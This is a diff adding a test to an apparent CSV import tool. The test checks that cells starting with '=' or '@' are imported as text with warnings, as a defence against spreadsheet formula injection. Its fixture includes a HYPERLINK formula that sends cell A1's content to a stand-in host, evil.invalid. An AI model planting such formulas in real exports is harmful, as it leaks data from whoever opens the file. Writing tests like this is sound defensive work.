@@ -206,6 +206,25 @@ describe('a file with problems', () => {
   });
 });
 
+describe('cells that start like a spreadsheet formula', () => {
+  it('are imported as text, with a warning for each row and column (a spreadsheet opening an export would run them)', async () => {
+    const path = folder.write('services-formulas.csv', [
+      ['Service code', 'Service', 'Directorate'],
+      ['FORMULA-1', '=HYPERLINK("http://evil.invalid/?"&A1,"Click")', 'Place'],
+      ['FORMULA-2', 'Harbour', '@SUM(A1)'],
+      ['FORMULA-3', 'Lighthouses', 'Place']
+    ]);
+    const result = await run({ Services: path }, { dryRun: true });
+    expect(result.status).toBe('dry run');
+    expect(result.outcomes.map((row) => row.outcome)).toEqual(['would add', 'would add', 'would add']);
+    expect(result.warnings).toEqual([
+      { file: 'services-formulas.csv', rowNumber: 2, column: 'Service', message: expect.stringMatching(/starts with "=".*formula/) },
+      { file: 'services-formulas.csv', rowNumber: 3, column: 'Directorate', message: expect.stringMatching(/starts with "@".*formula/) }
+    ]);
+    expect(result.problems).toEqual([]);
+  });
+});
+
 describe('person columns', () => {
   it('sets an account by its email when the person is a user of the site, and reports one who is not', async () => {
     const officer = data.lists.Officers.find((item) => item.fields.OfficerAccount === null && typeof item.fields.Email === 'string');
